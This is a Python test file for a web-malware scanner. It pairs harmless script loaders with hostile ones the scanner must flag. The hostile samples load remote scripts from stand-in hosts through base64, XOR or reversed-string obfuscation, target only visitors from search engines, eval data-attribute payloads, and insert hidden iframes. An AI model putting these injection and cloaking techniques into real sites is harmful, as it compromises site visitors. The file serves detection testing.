"""For each way in which scripts load others from addresses in disguise: what honest makers write,
for which nobody is accused, and what intruders do, by a second fact."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome, Verdict
from tests.checks.content.reading import b64, codes, hexed
from tests.checks.content.scripting import in_file, on_page
from tests.checks.content.test_injected_script_makers import pack

HOST = "https://js.dokura.example"
MODULE = b64(f"{HOST}/modul/sorot-kata.js")
NAMELESS = b64(f"{HOST}/x/p.js")
ADD = "document.head.appendChild(s)"
MADE = f"var s=document.createElement('script');s.src={{}};{ADD};"


def shifted(text: str, by: int) -> str:
    return ",".join(str(ord(c) + by) for c in text)


def not_accused(verdict: Verdict) -> bool:
    return verdict.outcome is Outcome.PASS or verdict.message == "look"


# A script that does nothing but load something, from an address that is in disguise by itself.
PLAIN_HONEST = {
    "in base64": MADE.format(f"atob('{MODULE}')"),
    "in letters' codes": MADE.format(f"String.fromCharCode({codes(HOST + '/tema/kabar.js')})"),
    "in escapes": MADE.format(f"'{hexed(HOST + '/menu.js')}'"),
    "backwards, for telephones": "if(screen.width<700){"
    + MADE.format(f"'{(HOST + '/ponsel.js')[::-1]}'.split('').reverse().join('')")
    + "}",
    "once for each visitor": "if(!localStorage.tur){localStorage.tur='1';"
    + MADE.format(f"atob('{b64(HOST + '/tur-situs.js')}')")
    + "}",
    "a short name under a customer's key": "/* Dokura: jangan diubah */"
    + MADE.format(f"atob('{b64(HOST + '/w.js')}')")
    + "s.id='dokura'",
    "a list in a cipher of its own that works with the page": "var d=["
    + shifted(HOST + "/huruf.js", 4)
    + "];document.querySelector('.ukuran').addEventListener('click',function(){var t='';for(var i="
    "0;i<d.length;i++)t+=String.fromCharCode(d[i]-4);" + MADE.format("t") + "});",
}
PLAIN_GUILTY = {
    "a name that says nothing": MADE.format(f"atob('{NAMELESS}')"),
    "another address each time": MADE.format(f"atob('{MODULE}')+'?v='+Date.now()"),
    "another address by chance": "var r=Math.random();" + MADE.format(f"atob('{MODULE}')+'?'+r"),
    "a cipher of its own": f"var d=[{shifted(HOST + '/modul.js', 7)}],t='';for(var i=0;i<d.length;"
    "i++)t+=String.fromCharCode(d[i]-7);" + MADE.format("t"),
    "the tag in codes as well": "var s=document.createElement(String.fromCharCode("
    f"{codes('script')}));s.src=String.fromCharCode({codes(HOST + '/modul.js')});{ADD}",
    "the tag backwards as well": "var s=document.createElement('tpircs'.split('').reverse()."
    f"join(''));s.src='{(HOST + '/modul.js')[::-1]}'.split('').reverse().join('');{ADD}",
    "the decoder in pieces": MADE.format(f"window['at'+'ob']('{MODULE}')"),
    "whether it is there already, by a text that it hides": "var n=0,a=document.scripts;for("
    f"var i=0;i<a.length;i++)if(a[i].src.indexOf(atob('{b64('dokura')}'))>0)n=1;if(!n){{"
    + MADE.format(f"atob('{MODULE}')")
    + "}",
    "another host where the first does not answer": "function m(u,g){var s=document.createElement("
    "'script');s.src=u;s.onerror=g;document.head.appendChild(s)}"
    f"m(atob('{MODULE}'),function(){{m(atob('{b64('https://js.rukoda.example/modul.js')}'))}})",
    "not for who is signed in": "if(!/wordpress_logged_in/.test(document.cookie)){"
    + MADE.format(f"atob('{MODULE}')")
    + "}",
    "for who comes from a search, once": "if(/google|bing/.test(document.referrer)&&"
    "!localStorage.k){localStorage.k=1;" + MADE.format(f"atob('{MODULE}')") + "}",
    "from a host of the trade": MADE.format(
        f"atob('{b64('https://cdn.slot88gacor.example/t.js')}')"
    ),
}


@pytest.mark.parametrize("name", PLAIN_HONEST)
def test_an_address_in_disguise_alone_accuses_nobody(name: str) -> None:
    assert not_accused(on_page(PLAIN_HONEST[name], ""))
    assert not_accused(in_file(PLAIN_HONEST[name], ""))


@pytest.mark.parametrize("name", PLAIN_GUILTY)
def test_a_second_fact_beside_it_does(name: str) -> None:
    assert on_page(PLAIN_GUILTY[name], "").message == "loader"
    assert in_file(PLAIN_GUILTY[name], "").message == "loader"


def test_a_handler_of_a_picture_that_loads_a_script_is_nobody_s_theme() -> None:
    source = MADE.format(f"atob('{MODULE}')")
    assert on_page("", f'<img src=x onerror="{source}">').message == "loader"


# A file that a part was added to, or that consists of parts.
MENU = """document.querySelectorAll('.menu-utama .punya-anak').forEach(function (butir) {
  butir.addEventListener('click', function (kejadian) {
    kejadian.preventDefault();
    butir.classList.toggle('buka');
    butir.querySelector('ul').hidden = !butir.classList.contains('buka');
  });
});
document.querySelector('.ke-atas').addEventListener('click', function () {
  window.scrollTo({top: 0, behavior: 'smooth'});
});
"""
TAIL_HONEST = {
    "a loader behind it": MENU + MADE.format(f"atob('{MODULE}')"),
    "a loader before it": MADE.format(f"atob('{MODULE}')") + MENU,
    "a packed loader behind it": MENU + pack(MADE.format("'https://js.dokura.example/kabar.js'")),
    "an encoded loader behind it": MENU
    + f"eval(atob('{b64(MADE.format(repr(HOST + '/kabar.js')))}'));",
    "a loader in the middle": MENU + MADE.format(f"atob('{NAMELESS}')") + MENU,
    "a loader for telephones": MENU + f"if(innerWidth<700){{{MADE.format(f'atob({MODULE!r})')}}}",
}
TAIL_GUILTY = {
    "a name that says nothing": MENU + MADE.format(f"atob('{NAMELESS}')"),
    "a name that says nothing, before it": MADE.format(f"atob('{NAMELESS}')") + MENU,
    "pieces in another order": MENU
    + f"(()=>{{const k=[[2,'{MODULE[24:]}'],[0,'{MODULE[:9]}'],[1,'{MODULE[9:24]}']];"
    "import(atob(k.sort((a,b)=>a[0]-b[0]).map(x=>x[1]).join('')))})();",
    "the time in its address": MENU
    + "(function(){"
    + MADE.format(f"atob('{MODULE}')+'?t='+Math.floor(Date.now()/6e5)")
    + "})();",
    "the document's name in pieces": MENU
    + f"(function(){{var d=self['docu'+'ment'],s=d.createElement('script');s.src=atob('{MODULE}');"
    "d.head.appendChild(s)})();",
    "every letter moved": MENU
    + f"(function(d){{for(var t='',i=0;i<d.length;i++)t+=String.fromCharCode(d[i]^9);"
    f"{MADE.format('t')}}})([{','.join(str(ord(c) ^ 9) for c in HOST + '/modul.js')}]);",
}


@pytest.mark.parametrize("name", TAIL_HONEST)
def test_parts_of_a_file_that_a_maker_put_together(name: str) -> None:
    assert not_accused(on_page(TAIL_HONEST[name], ""))
    assert not_accused(in_file(TAIL_HONEST[name], ""))


@pytest.mark.parametrize("name", TAIL_GUILTY)
def test_what_was_put_before_or_behind_a_file(name: str) -> None:
    assert on_page(TAIL_GUILTY[name], "").message == "loader"
    assert in_file(TAIL_GUILTY[name], "").message == "loader"


# What is only for who comes from a search.
FROM = "if(/google|bing|duckduckgo/.test(document.referrer)){"
MARKS = (
    "document.querySelectorAll('article p').forEach(function(p){p.innerHTML=p.innerHTML.replace("
    "kata,'<mark>$&</mark>');p.classList.add('tersorot')});"
)
OPEN = MADE.format(f"'{HOST}/modul/sorot-kata.js'")
SEARCH_HONEST = {
    "marks the words, its address in base64": FROM + MADE.format(f"atob('{MODULE}')") + MARKS + "}",
    "loads what marks them, in base64": FROM + MADE.format(f"atob('{MODULE}')") + "}",
    "loads what marks them, in the clear": FROM + OPEN + "}",
    "the same, and takes itself out again": OPEN + "document.currentScript.remove()",
    "packed": pack(FROM + OPEN + "}"),
    "marks them once, then no more": FROM
    + "sessionStorage.sorot=1;"
    + MADE.format(f"atob('{MODULE}')")
    + MARKS
    + "}",
}
SEARCH_GUILTY = {
    "nobody else, and once": FROM + "if(!localStorage.q){localStorage.q=1;" + OPEN + "}}",
    "the same in base64": FROM
    + "if(!localStorage.q){localStorage.q=1;"
    + MADE.format(f"atob('{MODULE}')")
    + "}}",
    "packed, and once": pack(FROM + "document.cookie='q=1';" + OPEN + "}"),
    "by a hidden name": FROM
    + f"var s=document['create'+'Element']('script');s.src='{HOST}/m/s.js';{ADD}}}",
    "and takes itself out again": FROM + OPEN + "document.currentScript.remove()}",
    "not for who is signed in": FROM
    + "if(/wp-settings/.test(document.cookie))return;"
    + OPEN
    + "}",
}


@pytest.mark.parametrize("name", SEARCH_HONEST)
def test_who_marks_the_words_that_were_sought(name: str) -> None:
    assert not_accused(on_page(SEARCH_HONEST[name], ""))
    assert not_accused(in_file(SEARCH_HONEST[name], ""))


@pytest.mark.parametrize("name", SEARCH_GUILTY)
def test_who_waits_for_searchers(name: str) -> None:
    assert on_page(SEARCH_GUILTY[name], "").message in {"loader", "smuggled"}


# What a script runs that stands elsewhere.
KEPT = b64("alert(document.title)")
STORE = "var t=localStorage.getItem('inti');"
HOLDER = f'<div id="awal" data-a="{KEPT[:10]}" data-b="{KEPT[10:]}" data-c="{KEPT}"></div>'
RUN_HONEST = {
    "a cache of its own script": STORE + "if(t){eval(atob(t))}else{ambil('/js/inti.js')}",
    "the same by a function": STORE + "(function(c){new Function(atob(c))()})(t)",
    "the same, packed": pack(STORE + "if(t){new Function(atob(t))()}"),
    "with a key": STORE + "if(t&&t.indexOf('r41.')===0){Function(atob(t.slice(4)))()}",
    "of the session": "var t=sessionStorage.tema;if(t)window.eval(atob(t));",
    "what a banner of consent kept back": "document.querySelectorAll('[data-izin]').forEach("
    "function(e){e.addEventListener('izin',function(){eval(atob(e.dataset.c));e.hidden=true;"
    "document.querySelector('.izin').classList.add('tutup')})})",
}
HELD_BY = "document.getElementById('awal').dataset"
RUN_GUILTY = {
    "from an attribute, and nothing else": f"eval(atob({HELD_BY}.c))",
    "from several": f"var d={HELD_BY};eval(atob(d.a+d.b))",
    "from several, by their names": f"Function(atob(['a','b'].map(function(k){{return {HELD_BY}[k]"
    "}).join('')))()",
    "by a decoder in pieces": f"var f=window['at'+'ob'];new Function(f({HELD_BY}.c))()",
    "by a function's maker": f"var r='';{HELD_BY}.c.split(',').forEach(function(v){{r+=String."
    "fromCharCode(v^9)});[]['filter']['constructor'](r)()",
    "a cipher of its own": f"var t='';{HELD_BY}.c.split(',').forEach(function(v){{t+=String."
    "fromCharCode(v-7)});eval(t)",
}


@pytest.mark.parametrize("name", RUN_HONEST)
def test_what_a_browser_kept_for_the_next_visit(name: str) -> None:
    assert not_accused(on_page(RUN_HONEST[name], HOLDER))
    assert not_accused(in_file(RUN_HONEST[name], HOLDER))


@pytest.mark.parametrize("name", RUN_GUILTY)
def test_what_is_hidden_elsewhere_in_the_page(name: str) -> None:
    assert on_page(RUN_GUILTY[name], HOLDER).message == "kept"


# Frames of packed scripts and of addresses in disguise.
BOX = "var f=document.createElement('iframe');f.src='https://kotak.dokura.example/obrolan';{}"
PUT = "document.body.appendChild(f);"
FRAME_HONEST = {
    "as it is": "",
    "with a class": "f.className='kotak';",
    "with a size": "f.width=320;f.height=480;",
    "without a border": "f.frameBorder=0;f.style.border='0';",
    "for wide screens": "if(innerWidth<500)f.width='100%';",
    "with a title": "f.title='Obrolan dengan petugas';",
}
FRAME_GUILTY = {
    "not shown": "f.style.display='none';",
    "of one point": "f.width=1;f.height=1;",
    "beside the window": "f.style.cssText='position:absolute;left:-9999px';",
    "unseen": "f.style.visibility='hidden';",
    "over the whole page": "f.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%';",
    "of no size": "f.style.cssText='width:0;height:0;border:0';",
}


@pytest.mark.parametrize("name", FRAME_HONEST)
def test_packed_frames_in_sight(name: str) -> None:
    assert not_accused(on_page(pack(BOX.format(FRAME_HONEST[name]) + PUT), ""))


@pytest.mark.parametrize("name", FRAME_GUILTY)
def test_packed_frames_out_of_sight(name: str) -> None:
    message = on_page(pack(BOX.format(FRAME_GUILTY[name]) + PUT), "").message
    assert message in {"loader", "cover"}
